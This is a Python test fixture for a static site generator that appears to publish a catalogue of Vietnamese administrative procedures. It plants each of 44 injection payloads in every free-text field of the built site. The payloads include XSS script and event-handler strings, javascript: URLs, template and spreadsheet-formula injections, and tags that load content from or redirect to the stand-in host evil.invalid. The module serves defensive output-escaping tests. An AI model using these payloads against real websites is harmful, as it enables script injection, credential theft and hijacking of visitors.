"""Attacks, and a site with each of them in every text that people write freely."""

import json
from datetime import date
from pathlib import Path
from typing import Any

import build
from tests.conftest import HOST, SAMPLE
from tests.worlds import full_record

EVIL = "https://evil.invalid/"
PAYLOADS = (
    "<script>PWN(1)</script>",
    "</script><script>PWN(2)</script>",
    "<script src=https://evil.invalid/x.js></script>",
    "<img src=x onerror=PWN(4)>",
    "<svg onload=PWN(5)></svg>",
    "<svg><script>PWN(6)</script></svg>",
    '<iframe srcdoc="<script>parent.PWN(7)</script>"></iframe>',
    "<iframe src=javascript:parent.PWN(8)></iframe>",
    "<details open ontoggle=PWN(9)>x</details>",
    "<video><source onerror=PWN(10)></video>",
    "<input autofocus onfocus=PWN(11)>",
    "<body onload=PWN(12)>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<object data=https://evil.invalid/x></object>",
    "<p style='background:url(https://evil.invalid/x)'>x</p>",
    "<a href=javascript:PWN(20)>x</a>",
    "<a href=' JaVa&#115;cript&colon;PWN(21)'>x</a>",
    "<a href='data:text/html,<script>opener.PWN(22)</script>'>x</a>",
    "[x](javascript:PWN(23))",
    "[x][y] [y]: javascript:PWN(24)",
    "<javascript:PWN(25)>",
    "![x](https://evil.invalid/x.png)",
    "[x](y){: onclick=PWN(27) onmouseover=PWN(27)}",
    '" autofocus onfocus=PWN(28) x="',
    "' onmouseover=PWN(29) x='",
    '"><img src=x onerror=PWN(30)>',
    "--><img src=x onerror=PWN(31)><!--",
    "</title><img src=x onerror=PWN(32)>",
    "</textarea></noscript></select><img src=x onerror=PWN(33)>",
    "]]><img src=x onerror=PWN(34)>",
    "<noscript><p title='</noscript><img src=x onerror=PWN(35)>'>",
    "<math><mtext><style><img src=x onerror=PWN(36)></style></mtext></math>",
    "{{7*7}} {% raw %} {{ site.host }} ${7*7} <%= 7*7 %> #{7*7}",
    "⟦body⟧⟦scripts⟧⟦end⟧",
    "&lt;img src=x onerror=PWN(39)&gt; &#60;b&#62;",
    "\\u003cimg src=x onerror=PWN(40)\\u003e \\x3cb\\x3e",
    "';PWN(41);//\"];PWN(41);//",
    "| a | <img src=x onerror=PWN(42)> |",
    '=HYPERLINK("https://evil.invalid/")',
    "%3Cimg src=x onerror=PWN(44)%3E #q=<b>",
)
KEPT = (
    "code",
    "editorial",
    "agency",
    "levels",
    "status",
    "online",
    "scope",
    "kind",
    "type",
    "unit",
    "set_by",
    "who",
    "action",
    "returns",
    "as_of",
)
KEPT_KEYS = {*KEPT, "channels", "date", "valid_from", "valid_until", "url", "cutoff", "value", "related", "combines", "replaced_by"}


def _spoilt(value: Any, text: str, key: str = "") -> Any:
    """The record with the text in the place of every text people write freely."""
    if isinstance(value, dict):
        return {name: _spoilt(item, text, name) for name, item in value.items()}
    if isinstance(value, list):
        return [_spoilt(item, text, key if isinstance(item, str) else "") for item in value]
    return text if isinstance(value, str) and key not in KEPT_KEYS and value != "none_stated" else value


def record(number: int, text: str) -> dict[str, Any]:
    data: dict[str, Any] = _spoilt(full_record(), text)
    data |= {"code": code(number), "agency": f"co-quan-{number}", "field": f"linh-vuc-{number}", "life_events": [f"su-kien-{number}"]}
    data |= {"applicants": [f"nguoi-{number}"], "legal_basis": [f"{number}/2020/NĐ-CP"], "hidden_search_terms": [text, "thử hai", "thử ba"]}
    data["channels"][0]["fees"][0]["legal_basis"] = f"{number}/2020/NĐ-CP"
    data["documents"][0]["items"][0] |= {"form": f"mau-{number}", "replaceable_by": f"csdl-{number}", "channels": ["online"]}
    data["decision"]["kind"] = "new"
    data["ignored_hints"] = [{"id": "TT-309", "reason": text.ljust(20, "."), "until": None}]
    data["source"]["differs"] = {"fees": text.ljust(20, ".")}
    return data


def code(number: int) -> str:
    return f"3.{number:06}"


def _write(path: Path, data: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")


def built(folder: Path) -> Path:
    """A site with one procedure, agency, field, life event, applicant, legal document, database and form a payload."""
    numbered = list(enumerate(PAYLOADS, 1))
    undated = {"valid_from": None, "valid_to": None}
    registers: dict[str, dict[str, Any]] = {
        "agencies": {
            f"co-quan-{n}": {
                "name": text,
                "code": text[:40],
                "abbreviation": None,
                "kind": "ministry",
                **undated,
                "predecessors": [],
                "note": text,
            }
            for n, text in numbered
        },
        "fields": {f"linh-vuc-{n}": {"name": text, "codes": [text[:40]], "note": text} for n, text in numbered},
        "life-events": {f"su-kien-{n}": {"name": text, "audience": "citizen", "note": text} for n, text in numbered},
        "often-asked": {code(n): {"name": text[:60]} for n, text in numbered[:12]},
        "applicants": {f"nguoi-{n}": {"name": text, "code": None, "note": text} for n, text in numbered},
        "legal-documents": {
            f"{n}/2020/NĐ-CP": {
                "title": text,
                "kind": "nghi-dinh",
                "issuer": text,
                "issued": None,
                "in_force": None,
                "ends": None,
                "replaced_by": None,
                "note": text,
            }
            for n, text in numbered
        },
        "databases": {f"csdl-{n}": {"name": text, "note": text} for n, text in numbered},
        "synonyms": {
            f"tu-{n}": {"kind": "everyday", "words": [text[:80]], "means": [text[:120]], "example": text, "note": text}
            for n, text in numbered
        },
    }
    for name, entries in registers.items():
        _write(folder / f"catalogue/registers/{name}.yml", {"register": name, "entries": entries})
    for name in ("provinces", "holidays", "code-exceptions", "everyday-terms"):
        path = f"catalogue/registers/{name}.yml"
        (folder / path).write_bytes((SAMPLE / path).read_bytes())
    for n, text in numbered:
        spoilt = record(n, text) | {
            "related": [code(n % len(PAYLOADS) + 1)],
            "combines": [code(n % len(PAYLOADS) + 1)],
            "replaced_by": [],
        }
        _write(folder / f"catalogue/procedures/co-quan-{n}/{code(n)}.yml", spoilt)
        form = {
            "id": f"mau-{n}",
            "name": text,
            "agency": f"co-quan-{n}",
            "number": text,
            "legal_document": f"{n}/2020/NĐ-CP",
            **undated,
            "note": text,
        }
        _write(folder / f"forms/co-quan-{n}/mau-{n}.yml", form)
    build.build(build.load(folder / "catalogue", date(2026, 11, 21)), HOST, folder / "site")
    return folder / "site"
